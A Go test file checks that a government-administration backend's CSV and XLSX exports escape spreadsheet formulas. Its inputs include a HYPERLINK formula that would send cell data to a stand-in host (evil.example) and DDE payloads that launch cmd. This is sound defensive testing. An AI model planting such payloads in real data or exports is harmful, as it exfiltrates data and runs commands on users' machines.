package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"minxin/backend/internal/apitest"
	"minxin/backend/internal/domain"
)

// formulaStart reports whether a spreadsheet would read a cell's text as a formula.
func formulaStart(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }

// checkCSV reads an exported CSV and checks that no cell would run as a formula: each of the
// hostile names shows after a single quote, whole; numbers are plain.
func checkCSV(t *testing.T, name string, body []byte, hostile []string) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	found := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				continue // a number
			}
			if formulaStart(cell) {
				t.Errorf("%s: the cell %q would run as a formula", name, cell)
			}
			found[strings.TrimPrefix(cell, "'")] = true
		}
	}
	for _, h := range hostile {
		if !found[h] {
			t.Errorf("%s: %q is not in the file as text", name, h)
		}
	}
}

// checkXLSX opens an exported workbook and checks that no cell has a formula, that each
// hostile name is a string cell holding exactly it, and that the counts are numbers.
func checkXLSX(t *testing.T, name string, body []byte, hostile []string) {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	found := map[string]bool{}
	numbers := 0
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, value := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, _ := book.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("%s: %s!%s has the formula %q", name, sheet, cell, f)
				}
				typ, _ := book.GetCellType(sheet, cell)
				switch {
				case typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString:
					found[value] = true
				case value != "":
					if _, err := strconv.ParseFloat(value, 64); err != nil {
						t.Errorf("%s: %s!%s %q is a cell of type %v", name, sheet, cell, value, typ)
					}
					numbers++
				}
			}
		}
	}
	for _, h := range hostile {
		if !found[h] {
			t.Errorf("%s: %q is not a string cell", name, h)
		}
	}
	if numbers == 0 {
		t.Errorf("%s: no number cell at all", name)
	}
}

// Every export the API writes — the scorecard of a township and the district view, as CSV
// and XLSX, the petition figures as CSV and XLSX, an audit's manifest — is safe to open when
// the names an admin gives (a township, an official, a petition category) are formulas.
func TestExportsAreSafeToOpen(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		townName := `=HYPERLINK("http://evil.example/?"&A1,"甲镇")`
		names := []string{"+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"}
		category := "=1+1 土地"
		town := env.Township(townName, 30, 120)
		env.Village(town, "甲村", 30.01, 120)
		admin := env.Token(env.User(domain.RoleAdmin, ""))
		var officials []domain.User
		for i, n := range names {
			flags := []string{"team_member"}
			if i == 0 {
				flags = append(flags, "lead")
			}
			u := env.User(domain.RoleOfficial, town.ID, flags...)
			if r := env.Patch("/api/v1/users/"+u.ID, admin, map[string]any{"display_name": n}); r.Status != http.StatusOK {
				t.Fatalf("rename: %d %s", r.Status, r.Body)
			}
			officials = append(officials, u)
		}
		today := env.Store.Today()
		r := env.Post("/api/v1/settings", admin, map[string]any{"key": "petition.categories", "effective_from": today.String(),
			"value": []map[string]any{{"code": "land", "name_zh": category, "name_en": "=1+1 Land"}, {"code": "other", "name_zh": "其他", "name_en": "Other"}}})
		if r.Status >= 300 {
			t.Fatalf("categories: %d %s", r.Status, r.Body)
		}
		officer := env.Token(env.User(domain.RolePetitionOfficer, town.ID))
		if r := env.Post("/api/v1/petitions", officer, map[string]any{"channel": "letter", "township_id": town.ID, "category": "land",
			"subject": "=1+1", "text": "-1", "petitioner": map[string]any{"name": "=张三", "phone": "13800001234"}}); r.Status != http.StatusCreated {
			t.Fatalf("petition: %d %s", r.Status, r.Body)
		}
		// Overnight stays to audit.
		tok := env.Token(officials[0])
		for day := 1; day <= 3; day++ {
			id := domain.NewID()
			at := func(d, h int) map[string]any {
				return map[string]any{"occurred_at": time.Date(2026, 11, d, h, 0, 0, 0, env.Loc).Format(time.RFC3339), "lat": 30, "lng": 120, "accuracy_m": 10}
			}
			env.Post("/api/v1/overnight-stays", tok, map[string]any{"id": id, "checkin": at(day, 20)})
			env.Post("/api/v1/overnight-stays/"+id+"/checkout", tok, map[string]any{"evidence": at(day+1, 7)})
		}
		inspector := env.Token(env.User(domain.RoleInspector, ""))
		round := env.Post("/api/v1/audits", inspector, map[string]any{"record_type": "overnight_stay", "period_start": "2026-11-01",
			"period_end": "2026-11-30", "sample_size": 2, "seed_digits": "2718"})
		if round.Status != http.StatusCreated {
			t.Fatalf("audit: %d %s", round.Status, round.Body)
		}

		period := "from=" + today.AddDays(-30).String() + "&to=" + today.String()
		people := append([]string{townName}, names...)
		exports := []struct {
			path    string
			hostile []string
		}{
			{"/api/v1/scorecards?township_id=" + town.ID + "&" + period, names},
			{"/api/v1/scorecards?" + period, people}, // the district view, without township_id
			{"/api/v1/petitions/figures?" + period, []string{townName, category}},
		}
		tried := 0
		for _, e := range exports {
			for _, format := range []string{"csv", "xlsx"} {
				r := env.Get(e.path+"&format="+format, inspector)
				if r.Status != http.StatusOK {
					t.Fatalf("%s as %s: %d %s", e.path, format, r.Status, r.Body)
				}
				if format == "csv" {
					checkCSV(t, e.path+" csv", r.Body, e.hostile)
				} else {
					checkXLSX(t, e.path+" xlsx", r.Body, e.hostile)
				}
				tried++
			}
		}
		manifest := env.Get("/api/v1/audits/"+round.Map(t)["id"].(string)+"/manifest", inspector)
		if manifest.Status != http.StatusOK {
			t.Fatalf("manifest: %d", manifest.Status)
		}
		checkCSV(t, "manifest", manifest.Body, nil)
		if tried != 6 {
			t.Errorf("%d exports tried", tried)
		}
	})
}
